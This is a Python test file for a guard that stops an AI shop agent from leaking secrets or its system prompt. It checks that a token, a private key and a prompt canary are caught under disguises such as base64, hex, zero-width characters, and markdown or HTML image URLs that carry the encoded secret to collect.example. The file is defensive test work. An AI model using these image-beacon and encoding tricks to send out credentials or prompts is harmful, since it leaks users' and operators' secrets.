"""No secret leaves, whole or in windows, and no finding repeats one."""

import base64
import random
import string
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from types import MappingProxyType
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trilens.enforce.combine import apply_edits
from trilens.enforce.judge import judge as judge_all
from trilens.enforce.release import context_of, window_end
from trilens.lenses.catalog import load
from trilens.lenses.lens import Answer, Context
from trilens.lenses.security.guards.secret_in_output.guard import judge
from trilens.lenses.stage import Staged, stage
from trilens.lenses.vectors import Vector
from trilens.mechanisms import events
from trilens.vocabulary.event import Call, Event
from trilens.vocabulary.outcome import Outcome
from trilens.vocabulary.system import Prompt, System

R = random.Random(11)
LETTERS = string.ascii_letters + string.digits
TOKEN = "ghp_" + "".join(R.choice(LETTERS) for _ in range(36))
KEY = "\n".join(
    (
        "-----BEGIN PRIVATE KEY-----",
        *("".join(R.choice(LETTERS) for _ in range(64)) for _ in range(6)),
        "-----END PRIVATE KEY-----",
    )
)
GUARDS = [guard for guard in load() if guard.sheet.id in ("secret_in_output", "hidden_text")]


@pytest.fixture(scope="session")
def scene(parse_shop: Callable[[str], System]) -> Staged:
    vector = Vector.model_validate({"name": "test", "event": {"output": "x"}, "expect": {"outcome": "allow"}})
    return stage(vector, parse_shop)


def said(scene: Staged, text: str) -> Event:
    context = scene.context
    return events.output(events.Scene(context.system, context.principal, "s", context.mac, lambda: "e"), text)


def base64_of(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


DISGUISES: list[Callable[[str], str]] = [
    lambda s: s,
    "\u200b".join,
    lambda s: s[:9] + "\u00ad" + s[9:],
    lambda s: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in s),
    lambda s: quote(s, safe="")[:-1] + f"%{ord(s[-1]):02X}",
    lambda s: "".join(f"%{ord(c):02x}" for c in s),
    base64_of,
    lambda s: base64_of(base64_of(s)),
    lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
    lambda s: s.encode().hex(),
    lambda s: f"![a picture](https://collect.example/p.png?d={base64_of(s)})",
    lambda s: f"[look](https://collect.example/{base64.urlsafe_b64encode(s.encode()).decode()}/p.png)",
    lambda s: f'<img src="https://collect.example/?q={quote(base64_of(s), safe="")}">',
]
AROUND = st.text(st.characters(categories=["L", "Zs", "Po"], exclude_characters="%/"), max_size=20)


@pytest.mark.requirement("X13")
@given(st.sampled_from(DISGUISES), AROUND, AROUND)
def test_no_disguise_of_a_token_leaves(scene: Staged, disguise: Callable[[str], str], before: str, after: str) -> None:
    hidden = disguise(TOKEN)
    event = said(scene, f"{before} {hidden} {after}")
    answer = judge(event, scene.context)
    assert answer.outcome is Outcome.MODIFY
    left = apply_edits(event, answer.edits)
    assert left is not None
    assert hidden not in left.text
    assert judge(left, scene.context).outcome is Outcome.ALLOW


@pytest.mark.requirement("X13")
@given(st.sampled_from(DISGUISES))
def test_no_call_with_a_token_is_allowed(scene: Staged, disguise: Callable[[str], str]) -> None:
    made = events.Scene(scene.context.system, scene.context.principal, "s", scene.context.mac, lambda: "e")
    call = Call("c", "send_email", f'{{"to": "ada@example.org", "deep": [{{"note": {quoted(disguise(TOKEN))}}}]}}')
    assert judge(events.tool_call(made, call), scene.context).outcome is Outcome.DENY


def quoted(text: str) -> str:
    return '"' + text.replace('"', '\\"') + '"'


@pytest.mark.requirement("X13")
@pytest.mark.parametrize("secret", [TOKEN, KEY, "postgres://shop:k0rnblume!7@db/shop"])
@pytest.mark.parametrize("disguise", DISGUISES)
def test_no_finding_repeats_a_secret(scene: Staged, secret: str, disguise: Callable[[str], str]) -> None:
    findings = judge(said(scene, f"It is {disguise(secret)} so"), scene.context).findings
    for finding in findings:
        told = " ".join(
            (finding.code, finding.message, finding.path, finding.rule, *(o.excerpt for o in finding.origins))
        )
        assert not any(secret[at : at + 6] in told for at in range(len(secret) - 6) if secret[at : at + 6].isalnum())


@pytest.mark.requirement("X13")
@pytest.mark.parametrize("secret", [TOKEN, KEY], ids=["token", "key"])
@pytest.mark.parametrize("start", [0, 40, 700, 2040, 2600, 17_000])
def test_no_window_of_a_stream_lets_a_secret_out(scene: Staged, secret: str, start: int) -> None:
    sentence = "Your order is on its way, as you can see. "
    text = (sentence * (start // len(sentence) + 1))[:start] + " Here it is:\n" + secret + "\n" + sentence * 80
    left = "".join(released(text, scene))
    assert secret not in left
    assert not any(line in left for line in secret.split("\n")[1:-1])
    assert len(left) >= start // 2


def released(text: str, scene: Staged) -> Iterator[str]:
    """What windows let out before the first one that may not leave as it is."""
    left = ""
    for at in range(0, len(text), 16):
        waiting = text[len(left) : at + 16]
        stop = window_end(waiting, len(left))
        if stop is None:
            continue
        if judge(said(scene, context_of(left) + waiting[:stop]), scene.context).outcome is not Outcome.ALLOW:
            return
        yield waiting[:stop]
        left += waiting[:stop]


@pytest.mark.requirement("X12", "X13")
def test_both_guards_clean_one_answer_together(scene: Staged) -> None:
    text = f"Your or\u200bder. The key is {TOKEN[:8]}\u200b{TOKEN[8:]}, or {TOKEN}."
    judged = judge_all(said(scene, text), GUARDS, scene.context, None)
    assert judged.outcome is Outcome.MODIFY
    assert judged.leaves is not None
    assert judged.leaves.text == "Your order. The key is , or ."


@pytest.mark.requirement("X13")
def test_secret_made_by_the_removal_is_held(scene: Staged) -> None:
    judged = judge_all(said(scene, f"{TOKEN[:20]}{TOKEN} {TOKEN[20:]}"), GUARDS, scene.context, None)
    assert judged.outcome is Outcome.MODIFY or judged.leaves is None
    assert judged.leaves is None or TOKEN not in judged.leaves.text


MARK = "canary-7f3a91c2e8d04b65"
LONG_PROMPT = " ".join(f"rule{n} says that agent{n} must keep item{n} away from {n} others" for n in range(400))


def with_prompt(context: Context, text: str) -> Context:
    prompts = MappingProxyType({"support": Prompt("support", "p.md", text, "sha256:0")})
    return replace(context, system=replace(context.system, prompts=prompts))


def outcome(scene: Staged, prompt: str, text: str) -> Answer:
    return judge(said(scene, text), with_prompt(scene.context, prompt))


@pytest.mark.requirement("X13")
@pytest.mark.parametrize(
    "disguise", [str, base64_of, lambda s: s.encode().hex(), lambda s: f"https://collect.example/?d={s}"]
)
def test_mark_of_a_prompt_does_not_leave(scene: Staged, disguise: Callable[[str], str]) -> None:
    answer = outcome(scene, f"You are the agent. {MARK}. Be kind.", f"Sure: {disguise(MARK)} ok")
    assert (answer.outcome, {f.code for f in answer.findings}) == (Outcome.MODIFY, {"secret_in_output/prompt_mark"})


@pytest.mark.requirement("X13")
def test_name_of_a_tool_and_a_public_word_are_no_marks(scene: Staged) -> None:
    public = next(iter(scene.context.system.sources.values())).text
    tool = "lookup_order_v2_by_reference"
    system = scene.context.system
    tools = MappingProxyType({**system.tools, tool: replace(system.tools["refund"], id=tool)})
    context = replace(scene.context, system=replace(system, tools=tools))
    answer = judge(said(scene, f"I call {tool}. {public}"), with_prompt(context, f"Call {tool} first. {public}"))
    assert answer.outcome is Outcome.ALLOW


@pytest.mark.requirement("X13")
@pytest.mark.parametrize("start", [0, 3, 500, 2000])
def test_stretch_of_a_long_prompt_is_refused_and_a_sentence_of_it_is_not(scene: Staged, start: int) -> None:
    words = LONG_PROMPT.split()
    assert outcome(scene, LONG_PROMPT, " ".join(words[start : start + 200])).outcome is Outcome.DENY
    assert outcome(scene, LONG_PROMPT, "-".join(words[start : start + 200])).outcome is Outcome.DENY
    assert outcome(scene, LONG_PROMPT, " ".join(words[start : start + 20])).outcome is Outcome.ALLOW


@pytest.mark.requirement("X13")
@pytest.mark.parametrize(("count", "expected"), [(32, Outcome.ALLOW), (40, Outcome.DENY)])
def test_forty_words_of_a_prompt_are_too_many(scene: Staged, count: int, expected: Outcome) -> None:
    words = LONG_PROMPT.split()[:400]
    assert outcome(scene, " ".join(words), " ".join(words[80 : 80 + count])).outcome is expected


@pytest.mark.requirement("X13")
def test_short_prompt_and_public_prompt_have_nothing_to_leak(scene: Staged) -> None:
    short = "You are the friendly agent of a shop for outdoor equipment, and you help its customers with orders."
    public = next(iter(scene.context.system.sources.values())).text
    assert outcome(scene, short, short).outcome is Outcome.ALLOW
    assert outcome(scene, public, public).outcome is Outcome.ALLOW


@pytest.mark.requirement("X13")
@pytest.mark.parametrize(
    "prompt", [("a" * 3000 + " ") * 300, "ü ö ä é " * 9000, LONG_PROMPT * 40], ids=["words", "accents", "long"]
)
def test_no_prompt_is_too_large_to_be_watched(scene: Staged, prompt: str) -> None:
    assert outcome(scene, prompt, "Your order is on its way.").outcome is Outcome.ALLOW


@given(st.text(max_size=200))
def test_no_text_makes_it_fail(scene: Staged, text: str) -> None:
    assert judge(said(scene, text), scene.context).outcome in (None, Outcome.ALLOW, Outcome.MODIFY, Outcome.DENY)


FLOODS = [
    "QUJDREVGR0hJSktM ",
    "%41b ",
    "%41",
    "a\u200b",
    "ａ",
    f"{TOKEN} ",
    f"{base64_of(TOKEN)} ",
    "eyJabcdefghijklm.",
    "eyJabcdefghijklm.eyJabcdefghijklm.",
    "-----BEGIN PRIVATE KEY-----\n" + "A1b2" * 10 + "\n",
    "authorization: basic ",
    "server=a;b=c;password=abcdef;",
    "ab://b:cdef",
    "abcdefghijklmnopqrst/",
]


@pytest.mark.requirement("X13")
@pytest.mark.parametrize("flood", FLOODS, ids=range(len(FLOODS)))
def test_no_flood_takes_more_than_its_length(scene: Staged, flood: str) -> None:
    # quadratic work on 256 kB takes many times this; measured in process time, so that a busy machine does not matter
    event = said(scene, (flood * (262_144 // len(flood) + 1))[:262_144])
    started = time.process_time()
    judge(event, scene.context)
    assert time.process_time() - started < 2.0
